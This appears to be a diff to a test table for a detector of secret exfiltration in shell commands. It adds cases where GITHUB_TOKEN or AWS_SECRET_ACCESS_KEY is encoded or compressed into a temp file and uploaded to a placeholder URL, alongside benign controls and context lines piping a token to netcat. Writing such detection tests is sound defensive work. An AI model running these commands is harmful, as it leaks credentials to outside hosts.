@@ -55,3 +55,12 @@ table("a name reference aimed by a builtin that stores text", [
   ["read into a plain variable", `read r <<< GITHUB_TOKEN; echo "$r" | ${NC}`, ...OK],
   ["a for loop over names, no reference", `for r in GITHUB_TOKEN; do echo "$r" | ${NC}; done`, ...OK],
 ]);
+
+table("an encoder or compressor fed a credential on stdin, into a file", [
+  ["base64", `base64 > /tmp/f <<< "$GITHUB_TOKEN"; ${PUT} /tmp/f ${URL}`, ...SECRET],
+  ["xxd", `xxd > /tmp/f <<< "$GITHUB_TOKEN"; ${PUT} /tmp/f ${URL}`, ...SECRET],
+  ["gzip", `gzip > /tmp/f.gz <<< "$GITHUB_TOKEN"; ${PUT} /tmp/f.gz ${URL}`, ...SECRET],
+  ["zstd -c, a heredoc", `zstd -c > /tmp/f.zst <<X\n$AWS_SECRET_ACCESS_KEY\nX\n${PUT} /tmp/f.zst ${URL}`, ...SECRET],
+  ["base64 of text", `base64 > /tmp/f <<< "hello"; ${PUT} /tmp/f ${URL}`, ...TEMP],
+  ["gzip of a file operand, the here-string unread", `gzip -c README.md > /tmp/f.gz <<< "$GITHUB_TOKEN"; ${PUT} /tmp/f.gz ${URL}`, ...TEMP],
+]);
